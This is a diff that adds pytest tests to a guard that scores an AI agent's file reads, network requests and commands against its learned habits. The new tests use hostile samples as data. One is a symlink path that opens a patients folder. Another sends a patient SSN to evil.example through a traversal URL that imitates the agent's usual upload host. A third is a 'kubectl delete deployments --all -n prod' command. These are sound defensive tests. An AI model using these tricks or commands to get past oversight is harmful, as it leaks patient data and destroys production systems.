@@ -25,6 +25,7 @@ from risk.features import (
     _BARE_HOST,
     _ENDS_IN_TLD,
     FEATURES,
+    FEATURES_VERSION,
     MAX_DESTINATION_CHARS,
     MIN_AMOUNTS,
     MODEL_FEATURES,
@@ -550,6 +551,19 @@ def test_load_model_refuses_a_card_whose_sha256_was_edited(tmp_path: Path) -> No
     card_path.write_text(json.dumps(card))
     with pytest.raises(ModelError, match="SHA-256"):
         load_model(artifact)
+
+
+def test_load_model_refuses_a_model_trained_on_features_that_meant_something_else(tmp_path: Path) -> None:
+    """A model pickled before FEATURES_VERSION (so without it, as default-3 was) read the priors of a habit in full:
+    scoring today's halved ones, it would misread every habitual action."""
+    old = small_model("old", "1")
+    del old.__dict__["features_version"]  # as an artifact pickled before the field: the class default, 1
+    assert old.features_version == 1 != FEATURES_VERSION
+    with pytest.raises(ModelError, match=r"trained on other features.*retrain it"):
+        load_model(save_model(old, tmp_path, {}))
+    with pytest.raises(ValueError, match="retrain it"):
+        BehaviorScorer(old, None)
+    assert load_model(save_model(small_model("new", "1"), tmp_path, {})).features_version == FEATURES_VERSION
 
 
 def test_load_model_without_a_card_raises_model_error(tmp_path: Path) -> None:
@@ -1133,8 +1147,53 @@ def test_a_file_reached_through_a_symlink_is_never_a_habit(tmp_path: Path) -> No
     clock.now += 60
     linked = guard.check("file_read", str(summary))
     assert not linked.allowed and "resource_phi" in linked.reason_codes and "habitual" not in linked.reason_codes
+    summary.unlink()
+    summary.write_text("month,claims\n")
+    (shared / "L").symlink_to(shared / "patients")  # L/../summary.csv reads as the summary, opens patients/
+    (shared / "patients" / "summary.csv").write_text("mrn,diagnosis\n")
+    clock.now += 60
+    through = guard.check("file_read", f"{shared}/L/../summary.csv")
+    assert through.normalized_resource == str(summary) and "habitual" not in through.reason_codes
     guard.close()
     learning.close()
+
+
+def test_a_url_that_resembles_the_agents_usual_one_is_neither_its_habit_nor_its_known_host(tmp_path: Path) -> None:
+    """Normalized, `https://evil.example/../reports.example/api/upload` reads `https:/reports.example/api/upload`,
+    the agent's daily upload; a client sends it to evil.example, so it must count as a new host, and no habit."""
+    clock, state = Clock(), MemoryState()
+    learning = make_guard(tmp_path, model=None, online=True, mode="alert", state=state, clock=clock)
+    for i in range(12):
+        clock.now = T0 + 60 * i
+        learning.check("network_request", "https://reports.example/api/upload", {"body": f"status {i}"})
+    guard = make_guard(tmp_path, model=None, online=True, max_risk_score=0.5, mode="block", state=state, clock=clock)
+    leak = {"body": "patient SSN 078-05-1120"}
+    clock.now += 60
+    usual = guard.check("network_request", "https://reports.example/api/upload", {"body": "status 12"})
+    assert usual.allowed and "habitual" in usual.reason_codes and "new_destination" not in usual.reason_codes
+    for url in ("https://evil.example/api/upload", "https://evil.example/../reports.example/api/upload"):
+        clock.now += 60
+        sent = guard.check("network_request", url, leak)
+        assert not sent.allowed and "new_destination" in sent.reason_codes and "habitual" not in sent.reason_codes
+    guard.close()
+    learning.close()
+
+
+def test_an_approved_action_runs_once_and_makes_no_habit_for_other_payloads(tmp_path: Path) -> None:
+    """The reviewer approved one command in production; another command there must not pass on that approval."""
+    guard = make_guard(tmp_path, model=None, online=True, max_risk_score=0.5, mode="pause", clock=(clock := Clock()))
+    for i in range(12):  # a mature agent: routine reads
+        clock.now = T0 + 60 * i
+        assert guard.check("file_read", f"/srv/app/logs/{i}.log").allowed
+    restart = {"cmd": "kubectl rollout restart deploy/api -n prod"}
+    assert guard.check("process_spawn", "k8s/prod/deployments", restart).outcome.value == "paused"
+    guard.approve("payer", actor="reviewer")
+    clock.now += 60
+    assert "approved" in guard.check("process_spawn", "k8s/prod/deployments", restart).reason_codes
+    clock.now += 60
+    delete = guard.check("process_spawn", "k8s/prod/deployments", {"cmd": "kubectl delete deployments --all -n prod"})
+    assert delete.outcome.value == "paused" and "habitual" not in delete.reason_codes
+    guard.close()
 
 
 def test_guard_lets_a_new_payee_the_users_task_names_pass_and_audits_why(tmp_path: Path) -> None:
